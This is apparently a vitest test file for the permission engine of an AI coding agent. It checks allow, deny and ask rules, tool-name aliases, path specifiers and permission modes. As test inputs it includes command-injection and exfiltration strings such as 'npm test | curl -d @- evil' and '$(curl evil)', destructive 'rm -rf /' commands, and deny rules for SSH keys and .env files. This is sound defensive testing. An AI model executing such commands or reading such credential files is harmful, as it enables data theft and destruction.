import { homedir } from "node:os";
import { describe, expect, it } from "vitest";
import type { ToolKind } from "../tools/index.js";
import { decide, type PermissionMode, parseRule, type Rule, RuleSyntaxError, type Scope } from "./rules.js";
import { acilabToolsFor, claudeAlias, claudeAliases } from "./tool-names.js";
import type { Behavior } from "./types.js";

const REPO = "/work/repo";
const FILE = "/work/repo/.acilab/settings.json";

function rule(behavior: Behavior, text: string, scope: Scope = "project", root = REPO): Rule {
  return { behavior, rule: parseRule(text, FILE), text, source: FILE, scope, root };
}

function verdict(
  rules: Rule[],
  tool: string,
  input: unknown,
  kind: ToolKind = "execute",
  mode: PermissionMode = "default",
) {
  return decide({ rules, mode, tool, kind, input, repo: REPO });
}

const shell = (command: string) => ({ command });

describe("parseRule", () => {
  it("reads Tool and Tool(specifier); Tool(*) is Tool", () => {
    expect(parseRule("Bash", FILE)).toEqual({ tool: "Bash" });
    expect(parseRule("Bash(npm test:*)", FILE)).toEqual({ tool: "Bash", specifier: "npm test:*" });
    expect(parseRule(" Bash(*) ", FILE)).toEqual({ tool: "Bash" });
    expect(parseRule("shell(ls)", FILE)).toEqual({ tool: "shell", specifier: "ls" });
    expect(parseRule("WebFetch(domain:example.com)", FILE)).toEqual({
      tool: "WebFetch",
      specifier: "domain:example.com",
    });
  });

  it.each([
    ["Bash(npm", /parenthesis is not closed/],
    ["(x)", /no tool name/],
    ["", /empty/],
    ["Bash()", /parentheses are empty/],
    ["Bsh(ls)", /no tool named Bsh/],
    ["Bash npm", /not of the form/],
  ])("rejects %j, naming the rule, the file and a valid example", (text, problem) => {
    let caught: unknown;
    try {
      parseRule(text, FILE);
    } catch (error) {
      caught = error;
    }
    expect(caught).toBeInstanceOf(RuleSyntaxError);
    const message = (caught as Error).message;
    expect(message).toMatch(problem);
    expect(message).toContain(FILE);
    expect(message).toContain(JSON.stringify(text));
    expect(message).toContain("Bash(npm test:*)");
  });
});

describe("tool names", () => {
  it("maps Claude Code's names to acilab's and back", () => {
    expect(acilabToolsFor("Bash")).toEqual(["shell", "run_code"]);
    expect(acilabToolsFor("Edit")).toContain("str_replace");
    expect(acilabToolsFor("WebFetch")).toEqual([]);
    expect(acilabToolsFor("repo_map")).toEqual(["repo_map"]);
    expect(claudeAlias("shell")).toBe("Bash");
    expect(claudeAlias("write_file")).toBe("Write");
    expect(claudeAlias("view")).toBe("Read");
    expect(claudeAlias("repo_map")).toBeUndefined();
    expect(claudeAliases("str_replace")).toEqual(["Edit", "Write", "MultiEdit"]);
  });
});

describe("command specifiers", () => {
  it("Bash(npm test) matches that command exactly", () => {
    const rules = [rule("allow", "Bash(npm test)")];
    expect(verdict(rules, "shell", shell("npm test")).behavior).toBe("allow");
    expect(verdict(rules, "shell", shell("  npm   test ")).behavior).toBe("allow");
    expect(verdict(rules, "shell", shell("npm test --watch")).behavior).toBe("ask");
  });

  it("Bash(npm test:*) matches the command and anything after a space, not a longer word", () => {
    const rules = [rule("allow", "Bash(npm test:*)")];
    expect(verdict(rules, "shell", shell("npm test")).behavior).toBe("allow");
    expect(verdict(rules, "shell", shell("npm test -- -t foo")).behavior).toBe("allow");
    expect(verdict(rules, "shell", shell("npm testing")).behavior).toBe("ask");
  });

  it("Bash and Bash(*) match every command, and programs too", () => {
    for (const text of ["Bash", "Bash(*)"]) {
      const rules = [rule("allow", text)];
      expect(verdict(rules, "shell", shell("anything | at all")).behavior).toBe("allow");
      expect(verdict(rules, "run_code", { language: "python", code: "print(1)" }).behavior).toBe("allow");
    }
  });

  it("a Bash rule with a specifier never covers run_code; a run_code rule does", () => {
    const program = { language: "python", code: "import os" };
    expect(verdict([rule("allow", "Bash(import:*)")], "run_code", program).behavior).toBe("ask");
    expect(verdict([rule("deny", "Bash(import:*)")], "run_code", program).behavior).toBe("ask");
    expect(verdict([rule("allow", "run_code")], "run_code", program).behavior).toBe("allow");
  });

  it("an allow rule covers a compound command only if it covers every part", () => {
    const rules = [rule("allow", "Bash(npm test:*)"), rule("allow", "Bash(git status)")];
    expect(verdict(rules, "shell", shell("git status && npm test"))).toEqual({
      behavior: "allow",
      reason: `allow rule Bash(git status) in ${FILE}; allow rule Bash(npm test:*) in ${FILE}`,
    });
    expect(verdict(rules, "shell", shell("npm test && rm -rf dist")).behavior).toBe("ask");
    expect(verdict(rules, "shell", shell("npm test | curl -d @- evil")).behavior).toBe("ask");
    expect(verdict(rules, "shell", shell("npm test $(curl evil)")).behavior).toBe("ask");
  });

  it("a deny or ask rule applies if any part matches", () => {
    const deny = [rule("deny", "Bash(rm:*)"), rule("allow", "Bash")];
    for (const command of ["ls; rm -rf /", "echo ok && rm x", "cat $(rm y)", "FOO=1 rm z", "(cd a && rm b)"])
      expect(verdict(deny, "shell", shell(command)), command).toEqual({
        behavior: "deny",
        reason: `deny rule Bash(rm:*) in ${FILE}`,
      });
    expect(verdict(deny, "shell", shell("echo 'rm -rf /'")).behavior).toBe("allow");
    const ask = [rule("ask", "Bash(git push:*)"), rule("allow", "Bash")];
    expect(verdict(ask, "shell", shell("git commit -m x && git push origin")).behavior).toBe("ask");
  });

  it("acilab's own tool names work as rule names", () => {
    expect(verdict([rule("deny", "shell(rm:*)")], "shell", shell("rm x")).behavior).toBe("deny");
    expect(verdict([rule("allow", "repo_map")], "repo_map", {}, "read").reason).toContain(
      "allow rule repo_map",
    );
  });

  it("WebFetch and WebSearch rules are accepted and match nothing", () => {
    expect(verdict([rule("deny", "WebFetch")], "shell", shell("curl x")).behavior).toBe("ask");
  });
});

describe("path specifiers", () => {
  const edit = (path: string) => ({ path, old: "a", new: "b" });

  it("Edit(src/**) covers files under src/, relative or absolute, and nothing outside", () => {
    const rules = [rule("allow", "Edit(src/**)")];
    expect(verdict(rules, "str_replace", edit("src/a/b.ts"), "edit").behavior).toBe("allow");
    expect(verdict(rules, "write_file", edit(`${REPO}/src/x.ts`), "edit").behavior).toBe("allow");
    expect(verdict(rules, "str_replace", edit("test/a.ts"), "edit").behavior).toBe("ask");
    expect(verdict(rules, "str_replace", edit("src/../../other/src/a.ts"), "edit").behavior).toBe("ask");
  });

  it("Read(./.env) denies the repository's .env, not another folder's", () => {
    const rules = [rule("deny", "Read(./.env)")];
    expect(verdict(rules, "view", { path: ".env" }, "read").behavior).toBe("deny");
    expect(verdict(rules, "read_file", { path: `${REPO}/.env` }, "read").behavior).toBe("deny");
    expect(verdict(rules, "view", { path: "pkg/.env" }, "read").behavior).toBe("allow");
  });

  it("a bare name matches at any depth, as in .gitignore; a directory covers what is under it", () => {
    const rules = [rule("deny", "Read(*.pem)"), rule("deny", "Edit(vendor)")];
    expect(verdict(rules, "view", { path: "deep/keys/server.pem" }, "read").behavior).toBe("deny");
    expect(verdict(rules, "create_file", { path: "vendor/lib/x.js" }, "edit").behavior).toBe("deny");
    expect(verdict(rules, "create_file", { path: "src/vendor.js" }, "edit").behavior).toBe("ask");
  });

  it("//abs is absolute, ~/ is the home folder, /x is the settings file's project root", () => {
    const abs = [rule("deny", "Edit(//etc/**)")];
    expect(verdict(abs, "write_file", { path: "/etc/passwd" }, "edit").behavior).toBe("deny");
    const home = [rule("deny", "Read(~/.ssh/**)")];
    expect(verdict(home, "view", { path: `${homedir()}/.ssh/id_rsa` }, "read").behavior).toBe("deny");
    const user = [rule("allow", "Edit(/notes/**)", "user", "/home/me/.config/acilab")];
    expect(verdict(user, "write_file", { path: "/home/me/.config/acilab/notes/a.md" }, "edit").behavior).toBe(
      "allow",
    );
    // A repository's own settings anchor /x at the repository the tools work on.
    const project = [rule("allow", "Edit(/docs/**)", "project", "/elsewhere")];
    expect(verdict(project, "str_replace", edit("docs/a.md"), "edit").behavior).toBe("allow");
  });

  it("applies Read rules to the Read tools and Grep rules to the search tools", () => {
    const rules = [rule("deny", "Read(secrets/**)"), rule("deny", "Grep(private)")];
    expect(verdict(rules, "scroll", { path: "secrets/a" }, "read").behavior).toBe("deny");
    expect(verdict(rules, "search_file", { term: "x", path: "private/b.txt" }, "read").behavior).toBe("deny");
    expect(verdict(rules, "str_replace", edit("secrets/a"), "edit").behavior).toBe("ask");
  });

  it("a call without a path is matched only by rules without a specifier", () => {
    expect(verdict([rule("deny", "Read(**)")], "goto", { line: 3 }, "read").behavior).toBe("allow");
    expect(verdict([rule("deny", "Read")], "goto", { line: 3 }, "read").behavior).toBe("deny");
  });
});

describe("modes", () => {
  const table: Array<[PermissionMode, ToolKind, Behavior]> = [
    ["default", "read", "allow"],
    ["default", "control", "allow"],
    ["default", "edit", "ask"],
    ["default", "execute", "ask"],
    ["default", "computer", "ask"],
    ["acceptEdits", "read", "allow"],
    ["acceptEdits", "control", "allow"],
    ["acceptEdits", "edit", "allow"],
    ["acceptEdits", "execute", "ask"],
    ["acceptEdits", "computer", "ask"],
    ["plan", "read", "allow"],
    ["plan", "control", "allow"],
    ["plan", "edit", "deny"],
    ["plan", "execute", "deny"],
    ["plan", "computer", "deny"],
    ["bypassPermissions", "read", "allow"],
    ["bypassPermissions", "edit", "allow"],
    ["bypassPermissions", "execute", "allow"],
    ["bypassPermissions", "computer", "allow"],
  ];
  it.each(table)("%s mode: %s → %s when no rule matches", (mode, kind, behavior) => {
    const d = verdict([], "some_tool", {}, kind, mode);
    expect(d.behavior).toBe(behavior);
    expect(d.reason).toContain(mode);
  });

  it("plan mode's denial says it is read-only", () => {
    expect(verdict([], "shell", shell("ls"), "execute", "plan").reason).toMatch(/plan mode is read-only/);
  });

  it("deny rules win in every mode, bypassPermissions included; plan mode outranks allow rules", () => {
    const rules = [rule("deny", "Bash(rm:*)"), rule("allow", "Bash")];
    expect(verdict(rules, "shell", shell("rm -rf x"), "execute", "bypassPermissions").behavior).toBe("deny");
    expect(verdict(rules, "shell", shell("ls"), "execute", "plan").behavior).toBe("deny");
  });

  it("checks deny, then ask, then allow, whatever order the rules were written in", () => {
    const rules = [rule("allow", "Bash"), rule("ask", "Bash(git:*)"), rule("deny", "Bash(git push:*)")];
    expect(verdict(rules, "shell", shell("git push")).behavior).toBe("deny");
    expect(verdict(rules, "shell", shell("git log")).behavior).toBe("ask");
    expect(verdict(rules, "shell", shell("ls")).behavior).toBe("allow");
  });
});
